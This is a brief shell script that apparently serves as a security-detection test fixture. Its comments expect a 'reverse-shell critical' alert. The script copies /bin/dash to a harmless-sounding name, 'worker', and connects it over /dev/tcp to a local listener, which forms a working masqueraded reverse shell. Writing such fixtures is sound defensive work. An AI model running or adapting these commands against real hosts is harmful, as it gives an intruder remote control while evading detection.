#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# what: a copied shell under a harmless name
# expect: reverse-shell critical
# listen: 127.0.0.1:4446
cp /bin/dash /usr/local/bin/worker
bash -c "exec 3<>/dev/tcp/127.0.0.1/4446; worker -c true <&3 >&3 2>&3"
